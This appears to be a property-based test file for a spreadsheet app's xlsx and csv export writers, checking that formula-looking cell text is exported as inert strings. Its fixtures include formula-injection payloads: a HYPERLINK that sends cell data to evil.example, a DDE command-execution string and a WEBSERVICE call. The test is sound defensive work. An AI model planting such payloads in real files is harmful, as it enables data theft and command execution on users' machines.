/**
 * @module tests/security/exportFormulas
 * Exported xlsx and csv never carry formulas from cell text (SPEC §5): any text
 * a user typed that a spreadsheet would run — starting with = + - @, a tab or a carriage
 * return, DDE payloads, HYPERLINK — comes out as inert text: an xlsx cell of type string
 * (never a formula) and, in csv, a leading `'`. fast-check generates the texts; the xlsx is
 * read back with exceljs as Excel would see it. These are the writers the export route
 * (`GET /api/sheets/:id/export`, routes/exports.ts) calls.
 */
import fc from 'fast-check'
import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import { columnsOf, headerLabel, ledgerTemplate, type Row } from '@taizhang/schema'
import { writeSheetCsv, writeSheetXlsx } from '@taizhang/server/export'
import { describe, expect, it } from 'vitest'

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r']

const dangerous = fc.oneof(
  fc.tuple(fc.constantFrom(...TRIGGERS), fc.string({ maxLength: 30 })).map(([t, s]) => t + s),
  fc.constantFrom(
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    '+SUM(1,2)',
    '-2+3',
    '@SUM(A1:A2)',
    '=WEBSERVICE("http://evil.example")',
  ),
)

const META = {
  unitName: '一网格',
  title: '导出安全',
  version: { hash: 'abc', at: '2026-01-01T00:00:00Z' },
}

describe('exports never carry formulas from cell text', () => {
  it('xlsx: formula-looking texts are string cells, shown exactly as typed', async () => {
    const texts = fc.sample(dangerous, { numRuns: 60, seed: 6 })
    const rows: Row[] = texts.map((t, i) => ({ id: `r${i}`, name: t, note: t, address: t }))
    const bytes = await writeSheetXlsx({ template: ledgerTemplate, rows, meta: META })
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(bytes as unknown as ArrayBuffer)
    const found = new Set<string>()
    let formulas = 0
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas++
          if (typeof cell.value === 'string') found.add(cell.value)
        }),
      ),
    )
    expect(formulas).toBe(0)
    // XML text turns a bare CR into LF when read back: that is xlsx, not a formula
    const shown = (t: string) => t.replace(/\r\n?/g, '\n')
    const seen = new Set([...found].map(shown))
    for (const t of texts) expect(seen.has(shown(t)), JSON.stringify(t)).toBe(true)
  })

  it('csv: formula-looking texts get a leading apostrophe, everything else is unchanged', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(dangerous, fc.string({ maxLength: 20 })), {
          minLength: 1,
          maxLength: 20,
        }),
        (texts) => {
          const rows: Row[] = texts.map((t, i) => ({ id: `r${i}`, name: t, note: t }))
          const csv = writeSheetCsv({ template: ledgerTemplate, rows }).toString('utf8').slice(1)
          const [header, ...lines] = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data
          const name = header!.indexOf(
            headerLabel(columnsOf(ledgerTemplate).find((c) => c.id === 'name')!),
          )
          expect(lines).toHaveLength(texts.length)
          lines.forEach((line, i) => {
            const t = texts[i]!
            const cell = line[name]!
            if (TRIGGERS.some((c) => t.startsWith(c))) expect(cell).toBe(`'${t}`)
            else expect(cell.replace(/^'/, '')).toBe(t)
            expect(TRIGGERS.includes(cell[0] ?? '')).toBe(false)
          })
        },
      ),
      { numRuns: 100, seed: 6 },
    )
  })
})
